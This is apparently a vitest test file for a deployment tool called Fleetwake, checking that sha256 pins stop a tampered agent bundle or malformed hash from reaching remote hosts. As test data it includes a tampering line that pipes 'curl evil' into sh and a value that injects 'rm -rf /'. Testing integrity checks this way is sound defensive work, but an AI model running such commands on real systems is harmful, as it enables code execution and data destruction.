import { execFile } from 'node:child_process';
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync, appendFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { defaultAgentBundle, deployAgent, NO_PINS, pinnedArtifacts, type DeployContext, type ProgressUpdate } from '../../main/deploy/index.js';
import { sha256OfFile } from '../../main/deploy/pins.js';
import { sha256CheckScript, SHA256_MISMATCH } from '../../main/remote/checksum.js';
import { computePins } from '../../scripts/pin-artifacts.mjs';

const run = promisify(execFile);
const root = path.resolve(import.meta.dirname, '../..');
const work = mkdtempSync(path.join(tmpdir(), 'fwt-pins-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const BUILD_FIRST = 'these tests check what `npm run build` produced (scripts/test.sh builds before vitest): run it first';

/** A connection that records every command and answers none: deploy must not get past its first one. */
function recordingConn() {
  const commands: string[] = [];
  const conn: DeployContext['conn'] = {
    relogin: async () => undefined,
    ready: async () => {
      throw new Error('no SFTP in this test');
    },
    exec: async (cmd: string) => {
      commands.push(cmd);
      throw new Error('STOP');
    },
  };
  return { conn, commands };
}

function context(agentBundle: string, extra: Partial<DeployContext> = {}) {
  const { conn, commands } = recordingConn();
  const log: ProgressUpdate[] = [];
  const ctx: DeployContext = {
    conn,
    hostName: 'h',
    onProgress: (p) => log.push(p),
    askSudoPassword: async () => null,
    agentBundle,
    ...extra,
  };
  return { ctx, commands, log };
}

describe('the pins of the shipped artifacts', () => {
  it('are compiled into the built app and match the files the build made', async () => {
    const mainBundle = path.join(root, 'out/electron/main.cjs');
    expect(existsSync(mainBundle), BUILD_FIRST).toBe(true);
    const fromFiles = await computePins();
    const pinned = await pinnedArtifacts();
    expect(pinned.agent, BUILD_FIRST).not.toBeNull();
    expect(pinned).toEqual(fromFiles);
    // In the app's code itself, not in a file read beside the artifacts at run time.
    const code = readFileSync(mainBundle, 'utf8');
    const hashes = [pinned.agent!.sha256, ...Object.values(pinned.runtimes).flatMap((r) => [r.sha256, r.gzSha256])];
    expect(hashes.length).toBeGreaterThan(1);
    for (const h of hashes) expect(code).toContain(h);
    expect(code).not.toMatch(/pinned-artifacts[\w.-]*\.json/);
  });
});

describe('deploy checks the agent bundle against its pin before touching the host', () => {
  it('the file the build made passes; the same file changed after the build is refused', async () => {
    const shipped = defaultAgentBundle();
    expect(existsSync(shipped), BUILD_FIRST).toBe(true);
    const copy = path.join(work, 'fleetwake-agent.cjs');
    copyFileSync(shipped, copy);

    const ok = context(copy);
    await expect(deployAgent(ok.ctx, { mode: 'auto' })).rejects.toThrow('STOP');
    expect(ok.commands).toHaveLength(1);

    appendFileSync(copy, '\n;require("child_process").exec("curl evil | sh")\n');
    const changed = await sha256OfFile(copy);
    const pinned = (await pinnedArtifacts()).agent!.sha256;
    const bad = context(copy);
    const err = await deployAgent(bad.ctx, { mode: 'auto' }).then(
      () => null,
      (e: Error) => e,
    );
    expect(err?.message).toBe(
      `The agent bundle ${copy} is not the file this Fleetwake build pinned: its sha256 is ${changed}, the build pinned ${pinned}. ` +
        'It was changed after the build, so nothing was uploaded. Run `npm run build` again (or reinstall Fleetwake).',
    );
    expect(bad.commands).toEqual([]);
    expect(bad.log).toEqual([{ step: 'probe', state: 'failed', message: err!.message }]);
  });

  it('a build without pins refuses to deploy and says how to get them', async () => {
    const t = context(defaultAgentBundle(), { pins: NO_PINS });
    await expect(deployAgent(t.ctx, { mode: 'auto' })).rejects.toThrow(
      'This Fleetwake build has no pinned sha256 for the agent bundle, so it cannot check that file before installing it. Run `npm run build`',
    );
    expect(t.commands).toEqual([]);
  });
});

describe('the check on the server (sha256CheckScript)', () => {
  const file = path.join(work, 'payload');
  writeFileSync(file, 'the pinned bytes\n');
  const sh = (script: string, env: NodeJS.ProcessEnv = process.env) =>
    run('/bin/sh', ['-c', script], { env }).then(
      (r) => ({ code: 0, ...r }),
      (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, stdout: e.stdout, stderr: e.stderr }),
    );

  it('falls through on a match, and on a mismatch runs the cleanup and reports the hash it computed', async () => {
    const good = await sha256OfFile(file);
    const pass = await sh(`${sha256CheckScript(`'${file}'`, good, 'echo CLEANUP')}\necho AFTER`);
    expect(pass).toEqual({ code: 0, stdout: 'AFTER\n', stderr: '' });

    const other = 'f'.repeat(64);
    const refused = await sh(`${sha256CheckScript(`'${file}'`, other, 'echo CLEANUP')}\necho AFTER`);
    expect(refused).toEqual({ code: SHA256_MISMATCH, stdout: `CLEANUP\n@@sha256 ${good}\n`, stderr: '' });
  });

  it('says what is missing on a host without sha256sum, instead of passing or reporting a bogus hash', async () => {
    // A PATH with the shell's own tools but no sha256sum.
    const bin = path.join(work, 'bin');
    mkdirSync(bin);
    for (const tool of ['echo', 'cat']) symlinkSync(`/usr/bin/${tool}`, path.join(bin, tool));
    const r = await sh(`${sha256CheckScript(`'${file}'`, 'f'.repeat(64), 'echo CLEANUP')}\necho AFTER`, { PATH: bin });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('CLEANUP\n');
    expect(r.stderr).toMatch(/this host has no sha256sum \(GNU coreutils\), which Fleetwake needs to check the files it installs/);
  });

  it('accepts only a sha256 as the expected value (it is written into the script)', () => {
    expect(() => sha256CheckScript('"$f"', "x'; rm -rf /; '")).toThrow(/not a sha256/);
  });
});
